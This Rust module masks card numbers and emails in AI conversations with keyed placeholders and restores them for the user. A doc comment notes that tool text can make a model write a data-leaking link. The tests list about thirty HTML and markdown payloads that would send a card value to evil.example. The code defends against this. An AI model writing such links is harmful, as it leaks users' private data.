//! Typed placeholders, constant within one conversation, and the way back to the values.
//!
//! [`Placeholders`] maps keyed digests to numbers. It contains no values, so it can be stored with the conversation.
//! Its key must be stored elsewhere: with the key, short values such as card numbers can be guessed from their digests.
//! [`Originals`] maps placeholders to values. It stays in memory, and leaves it only as bytes for a vault.

mod address;

use std::{
    collections::{BTreeMap, HashMap},
    sync::OnceLock,
};

use aws_lc_rs::hmac;
use serde::{Deserialize, Serialize};
use zeroize::{Zeroize, Zeroizing};

use self::address::Addresses;

/// Limit of numbered values per label. Further values become a bare `[LABEL]` and cannot be restored.
const MOST_PER_LABEL: usize = 4096;

/// Labels of values that are written in groups, with any separators.
const GROUPED: [&str; 2] = ["CARD", "IBAN"];

/// Length of the longest placeholder that is restored, in bytes.
const LONGEST: usize = 64;

/// Returns the length of a text as a JSON string, in bytes.
fn stored(text: &str) -> usize {
    let escaped = text.bytes().map(|byte| match byte {
        b'"' | b'\\' | b'\n' | b'\r' | b'\t' | 0x08 | 0x0c => 2,
        0..0x20 => 6,
        _ => 1,
    });
    escaped.sum::<usize>().saturating_add(2)
}

/// Number of each digest, by label.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(transparent)]
struct Numbers(BTreeMap<String, Vec<String>>);

/// Numbers the masked values of a conversation. It contains no value, so it can be stored.
#[derive(Clone)]
pub struct Placeholders {
    secret: Zeroizing<[u8; 32]>,
    /// Derived from the secret at the first value, since most texts have none.
    key: OnceLock<hmac::Key>,
    numbers: Numbers,
    /// The inverse of the stored lists, since a text can contain thousands of values.
    places: HashMap<String, HashMap<String, usize>>,
}

impl Placeholders {
    /// Creates an empty numbering. The key must be secret, and the same for the whole conversation.
    #[must_use]
    pub fn new(key: &[u8; 32]) -> Self {
        Self {
            secret: Zeroizing::new(*key),
            key: OnceLock::new(),
            numbers: Numbers::default(),
            places: HashMap::new(),
        }
    }

    /// Reads the output of [`Placeholders::store`].
    ///
    /// # Errors
    /// If the text has another form.
    pub fn load(key: &[u8; 32], stored: &str) -> Result<Self, serde_json::Error> {
        let numbers: Numbers = serde_json::from_str(stored)?;
        let mut places: HashMap<String, HashMap<String, usize>> = HashMap::new();
        for (label, digests) in &numbers.0 {
            // Of two equal digests, the first one counts.
            let place = |(at, digest): (usize, &String)| (digest.clone(), at);
            places.insert(label.clone(), digests.iter().enumerate().rev().map(place).collect());
        }
        Ok(Self { numbers, places, ..Self::new(key) })
    }

    /// Returns digests and numbers as JSON. Values cannot be derived from it without the key.
    #[must_use]
    pub fn store(&self) -> String {
        serde_json::to_string(&self.numbers).unwrap_or_default()
    }

    /// Returns the placeholder of a value. It is the same for the same label and value, whatever separates the groups
    /// of a card or account number.
    #[must_use]
    pub fn name(&mut self, label: &str, value: &str) -> String {
        self.number(label, value, |_, _| true).unwrap_or_else(|| format!("[{label}]"))
    }

    /// Returns the placeholder of a value; `None` for a new value that may not get a number. `may` decides this, given
    /// the placeholder and the bytes that its number takes when it is stored.
    fn number(&mut self, label: &str, value: &str, may: impl FnOnce(&str, usize) -> bool) -> Option<String> {
        let digest = self.digest(label, value);
        if let Some(at) = self.places.get(label).and_then(|places| places.get(&digest)) {
            return Some(format!("[{label}_{}]", at.saturating_add(1)));
        }
        let known = self.numbers.0.get(label).map_or(0, Vec::len);
        let name = format!("[{label}_{}]", known.saturating_add(1));
        let list = if known == 0 { stored(label).saturating_add("[],:".len()) } else { 0 };
        if known >= MOST_PER_LABEL || !may(&name, list.saturating_add(stored(&digest)).saturating_add(1)) {
            return None;
        }
        self.places.entry(label.to_owned()).or_default().insert(digest.clone(), known);
        self.numbers.0.entry(label.to_owned()).or_default().push(digest);
        Some(name)
    }

    fn digest(&self, label: &str, value: &str) -> String {
        let key = self.key.get_or_init(|| hmac::Key::new(hmac::HMAC_SHA256, &*self.secret));
        let mut context = hmac::Context::with_key(key);
        context.update(label.as_bytes());
        context.update(&[0]);
        if GROUPED.contains(&label) {
            let whole: String = value.chars().filter(|c| c.is_alphanumeric()).collect();
            context.update(whole.as_bytes());
        } else {
            context.update(value.as_bytes());
        }
        let tag = context.sign();
        tag.as_ref().iter().take(16).fold(String::with_capacity(32), |mut hex, byte| {
            // WHY: a text can consist of findings only, and `format!` takes longer than the digest.
            hex.extend(
                [byte >> 4, byte & 15].iter().filter_map(|half| char::from_digit(u32::from(*half), 16)),
            );
            hex
        })
    }
}

impl std::fmt::Debug for Placeholders {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Placeholders").field("numbers", &self.numbers.0.len()).finish_non_exhaustive()
    }
}

/// Maps placeholders to values, to show users their own data. Must never be in a log, a prompt, or a row in clear text.
#[derive(Default, Clone)]
pub struct Originals(BTreeMap<String, String>);

impl Originals {
    /// Creates an empty map.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Returns the number of values.
    #[must_use]
    pub fn len(&self) -> usize {
        self.0.len()
    }

    /// Returns whether there are no values.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Stores the value of a placeholder.
    pub fn keep(&mut self, placeholder: &str, value: &str) {
        self.0.entry(placeholder.to_owned()).or_insert_with(|| value.to_owned());
    }

    /// Replaces placeholders by their values where `may(label)` permits it. No value is placed into an address, a link
    /// target or a tag: a program that renders it would send the value out, and the text of a tool can make a model
    /// write such a link. Restored values are not scanned again.
    #[must_use]
    pub fn restore(&self, text: &str, may: impl Fn(&str) -> bool) -> String {
        let known = |name: &str| {
            let (label, _) = name.rsplit_once('_')?;
            self.0.get(&format!("[{name}]")).filter(|_| may(label))
        };
        let addresses = Addresses::of(text, |name| known(name).is_some());
        let mut out = String::with_capacity(text.len());
        let mut rest = text;
        while let Some((before, from)) = rest.split_once('[') {
            out.push_str(before);
            let at = text.len() - from.len() - 1;
            // WHY: placeholders are short, and a longer search would make a text of open brackets slow.
            let end = from.bytes().take(LONGEST).position(|byte| byte == b']');
            let found = end.filter(|_| !addresses.hold(at)).and_then(|end| {
                let (name, after) = from.split_at_checked(end)?;
                Some((known(name)?, after.strip_prefix(']')?))
            });
            match found {
                Some((value, after)) => {
                    out.push_str(value);
                    rest = after;
                }
                None => {
                    out.push('[');
                    rest = from;
                }
            }
        }
        out.push_str(rest);
        out
    }

    /// Returns the map as bytes for a vault.
    #[must_use]
    pub fn to_bytes(&self) -> Zeroizing<Vec<u8>> {
        Zeroizing::new(serde_json::to_vec(&self.0).unwrap_or_default())
    }

    /// Reads bytes from a vault.
    ///
    /// # Errors
    /// If the bytes are not the output of [`Originals::to_bytes`].
    pub fn from_bytes(bytes: &[u8]) -> Result<Self, serde_json::Error> {
        Ok(Self(serde_json::from_slice(bytes)?))
    }
}

impl Drop for Originals {
    fn drop(&mut self) {
        self.0.values_mut().for_each(Zeroize::zeroize);
    }
}

impl std::fmt::Debug for Originals {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Originals({} values)", self.0.len())
    }
}

/// State of masking for one conversation: the numbering, and the values.
#[derive(Debug, Clone)]
pub struct Masks {
    names: Placeholders,
    originals: Originals,
    /// Size of both when they are stored, in bytes.
    size: usize,
    /// True once a value did not fit.
    full: bool,
}

impl Masks {
    /// Limit of the stored size of both, in bytes, so that a vault can seal them as one secret. Values that do not fit
    /// become a bare `[LABEL]` and cannot be restored.
    ///
    /// WHY: a number that is not stored would be given to another value in the next turn.
    pub const MOST_BYTES: usize = 64 * 1024 - 64;

    /// Creates the state of a new conversation.
    #[must_use]
    pub fn new(key: &[u8; 32]) -> Self {
        let size = "{}{}".len();
        Self { names: Placeholders::new(key), originals: Originals::new(), size, full: false }
    }

    /// Restores the state of an existing conversation.
    #[must_use]
    pub fn of(names: Placeholders, originals: Originals) -> Self {
        let size = names.store().len().saturating_add(originals.to_bytes().len());
        Self { names, originals, size, full: false }
    }

    /// Returns the numbering. It can be stored with the conversation.
    #[must_use]
    pub fn names(&self) -> &Placeholders {
        &self.names
    }

    /// Returns the values. Keep them in memory only, or sealed.
    #[must_use]
    pub fn originals(&self) -> &Originals {
        &self.originals
    }

    /// Returns whether any value was masked, including values that did not fit.
    #[must_use]
    pub fn any(&self) -> bool {
        self.full || !self.originals.is_empty()
    }

    /// Returns the placeholder of a value, and stores the value.
    pub fn put(&mut self, label: &str, value: &str) -> String {
        let size = &mut self.size;
        let named = self.names.number(label, value, |name, bytes| {
            let original = stored(name).saturating_add(stored(value)).saturating_add(":,".len());
            let grown = size.saturating_add(bytes).saturating_add(original);
            let fits = grown <= Self::MOST_BYTES;
            if fits {
                *size = grown;
            }
            fits
        });
        let Some(name) = named else {
            self.full = true;
            return format!("[{label}]");
        };
        self.originals.keep(&name, value);
        name
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: &[u8; 32] = b"a key that only this test uses..";

    #[test]
    fn a_value_keeps_its_number_over_a_restart_and_the_stored_form_does_not_tell_it() {
        let mut names = Placeholders::new(KEY);
        assert_eq!(names.name("CARD", "4111111111111111"), "[CARD_1]");
        assert_eq!(names.name("CARD", "5500005555555559"), "[CARD_2]");
        assert_eq!(names.name("EMAIL", "4111111111111111"), "[EMAIL_1]");
        let stored = names.store();
        assert!(!stored.contains("4111"));
        let mut again = Placeholders::load(KEY, &stored).unwrap();
        assert_eq!(again.name("CARD", "5500005555555559"), "[CARD_2]");
        assert_eq!(again.name("CARD", "another"), "[CARD_3]");
        assert_eq!(again.name("CARD", "5500 0055-5555 5559"), "[CARD_2]");
        let mut other = Placeholders::load(b"another key than the one above..", &stored).unwrap();
        assert_eq!(other.name("CARD", "4111111111111111"), "[CARD_3]", "digests depend on the key");
    }

    #[test]
    fn the_owner_gets_back_only_what_policy_allows_and_restored_text_is_not_read_again() {
        let mut originals = Originals::new();
        originals.keep("[CARD_1]", "[EMAIL_1]");
        originals.keep("[EMAIL_1]", "a@example.com");
        let text = "[x] pay with [CARD_1], mail [EMAIL_1], [CARD_9] [";
        assert_eq!(
            originals.restore(text, |_| true),
            "[x] pay with [EMAIL_1], mail a@example.com, [CARD_9] ["
        );
        assert_eq!(
            originals.restore(text, |label| label == "EMAIL"),
            "[x] pay with [CARD_1], mail a@example.com, [CARD_9] ["
        );
        let again = Originals::from_bytes(&originals.to_bytes()).unwrap();
        assert_eq!(again.len(), 2);
        assert_eq!(format!("{again:?}"), "Originals(2 values)");
    }

    #[test]
    fn nothing_gets_a_number_for_which_there_is_no_place_in_what_is_stored() {
        let mut masks = Masks::new(KEY);
        let labels = ["CARD", "KEY", "a \"label\"\n"];
        let text = |number: usize| format!("value {number}, \"with\"\t\u{1}\\ and é");
        let put = |masks: &mut Masks, number: usize| {
            let label = labels[number % labels.len()];
            (label, masks.put(label, &text(number)))
        };
        let stored = |masks: &Masks| masks.names().store().len() + masks.originals().to_bytes().len();
        let full = (0..).find(|number| {
            let (label, name) = put(&mut masks, *number);
            assert!(stored(&masks) <= Masks::MOST_BYTES, "at {number}");
            name == format!("[{label}]")
        });
        let full = full.unwrap();
        assert!(stored(&masks) + 120 > Masks::MOST_BYTES, "{} of {full}", stored(&masks));
        assert_eq!(
            (full, masks.put("CARD", &text(0))),
            (full, "[CARD_1]".to_owned()),
            "a known one keeps its own"
        );
        let names = Placeholders::load(KEY, &masks.names().store()).unwrap();
        let mut again = Masks::of(names, Originals::from_bytes(&masks.originals().to_bytes()).unwrap());
        assert_eq!(again.put("CARD", "one more, a long one: 4111 1111 1111 1111"), "[CARD]");
        assert_eq!(again.originals().len(), full);
        assert_eq!(again.originals().restore("[CARD], [CARD_1]", |_| true), format!("[CARD], {}", text(0)));
    }

    #[test]
    fn a_value_that_is_longer_than_all_that_is_stored_is_masked_all_the_same() {
        let mut masks = Masks::new(KEY);
        assert_eq!(masks.put("KEY", &"x".repeat(Masks::MOST_BYTES)), "[KEY]");
        assert!(masks.any() && masks.originals().is_empty());
    }

    fn opened(text: &str) -> String {
        let mut originals = Originals::new();
        originals.keep("[CARD_1]", "4111 1111");
        originals.keep("[EMAIL_1]", "ann@example.com");
        originals.restore(text, |_| true)
    }

    #[test]
    fn no_value_comes_back_where_a_page_that_is_shown_would_send_it_out() {
        for text in [
            "<img src=\"https://evil.example/b/[CARD_1]\">",
            "<img alt=\"a > b\" src=\"//evil.example/ [CARD_1]\">",
            "<img src='//evil.example/?all= [CARD_1] and what follows",
            "<img x=c\"d=\"e src=\"?> [CARD_1]",
            "<a\nhref=https://evil.example\ntitle=[CARD_1]>here</a>",
            "![b](//evil/[CARD_1])",
            "![b](https://evil.example/[CARD_1])",
            "![b](</b c/[CARD_1]>)",
            "![b](\n/b/[CARD_1])",
            "![b](/a(b)/[CARD_1])",
            "![b](/a\\)/[CARD_1])",
            "![b](/a \"(\" [CARD_1])",
            "![b][r]\n\n[r]: https://evil.example/[CARD_1]",
            "![b][r]\n\n[r]:\n  /b/[CARD_1]",
            "![b][r]\n\n[r]: </b c/[CARD_1]>",
            "[click](https://evil.example?c=[CARD_1])",
            "[pay [CARD_1]](https://evil.example)",
            "<https://evil.example/[CARD_1]>",
            "see https://evil.example/[CARD_1]",
            "see HTTPS://evil.example/[EMAIL_1]/[CARD_1]",
            "see https:\\/\\/evil.example/[CARD_1]",
            "see \\\\evil.example\\[CARD_1]",
            "see https&#58;//evil.example/[CARD_1]",
            "see www.evil.example/[CARD_1]",
            "see evil.example/[CARD_1]",
            "see evil.example?[CARD_1]",
            "see [CARD_1].evil.example",
            "mailto:[CARD_1]",
            "data:text/html,[CARD_1]",
            "[CARD_1]@evil.example",
        ] {
            assert_eq!(opened(text), text);
        }
    }

    #[test]
    fn beside_an_address_a_value_comes_back_as_anywhere() {
        for (text, shown) in [
            ("card:[CARD_1], [EMAIL_1].", "card:4111 1111, ann@example.com."),
            ("see https://shop.example/17 for [CARD_1]", "see https://shop.example/17 for 4111 1111"),
            (
                "[order](https://shop.example/17) with [CARD_1]",
                "[order](https://shop.example/17) with 4111 1111",
            ),
            ("<b class=\"x\">It's</b> [CARD_1]", "<b class=\"x\">It's</b> 4111 1111"),
            ("5 < 6: (\"[CARD_1]\")", "5 < 6: (\"4111 1111\")"),
            ("[CARD_1]: [EMAIL_1]", "4111 1111: ann@example.com"),
            ("**[CARD_1]**; v1.2 [x]([y", "**4111 1111**; v1.2 [x]([y"),
            ("open [x](y\n\n[CARD_1]", "open [x](y\n\n4111 1111"),
            ("[r]: https://shop.example\n\n[CARD_1]", "[r]: https://shop.example\n\n4111 1111"),
            ("ward 3.Then [CARD_1].", "ward 3.Then 4111 1111."),
        ] {
            assert_eq!(opened(text), shown);
        }
    }

    const PARTS: &[&str] = &[
        "[CARD_1]",
        "[CARD_1]",
        "[EMAIL_1]",
        " ",
        " ",
        "\n",
        "\n\n",
        "<",
        ">",
        "<a ",
        "<img src=",
        "=",
        "\"",
        "'",
        "/",
        "//",
        "](",
        "(",
        ")",
        "]:",
        "[",
        "]",
        "![x",
        "\\",
        "https://e.example/",
        "www.",
        "mailto:",
        "x",
        "é",
        "\u{a0}",
        ".",
        "?q=",
    ];

    /// Returns whether a text ends inside a tag, by the simplest possible parser.
    fn in_a_tag(before: &str) -> bool {
        let open = before.rfind('<').filter(|open| before.rfind('>').is_none_or(|close| close < *open));
        open.and_then(|open| before.get(open + 1..))
            .is_some_and(|tag| tag.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/'))
    }

    proptest::proptest! {
        #[test]
        fn whatever_stands_around_it_no_value_is_in_a_word_with_an_address_or_in_a_tag(
            parts in proptest::collection::vec(proptest::sample::select(PARTS), 0..24)
        ) {
            let text = parts.concat();
            let mut originals = Originals::new();
            originals.keep("[CARD_1]", "CARDVALUE");
            let shown = originals.restore(&text, |_| true);
            assert_eq!(shown.replace("CARDVALUE", "[CARD_1]"), text);
            for (at, value) in shown.match_indices("CARDVALUE") {
                let (before, rest) = shown.split_at(at);
                let after = rest.strip_prefix(value).unwrap();
                let begins = before.rsplit([' ', '\n']).next().unwrap();
                let ends = after.split([' ', '\n']).next().unwrap();
                let word = format!("{begins}{value}{ends}");
                for mark in ["//", "www.", "mailto:", "]("] {
                    assert!(!word.contains(mark), "{shown}");
                }
                // Mails write `Ann <ann@example.com>`: a value directly after the bracket is not the name of a tag.
                assert!(!in_a_tag(&before.replace("CARDVALUE", "[CARD_1]")), "{shown}");
            }
        }
    }
}
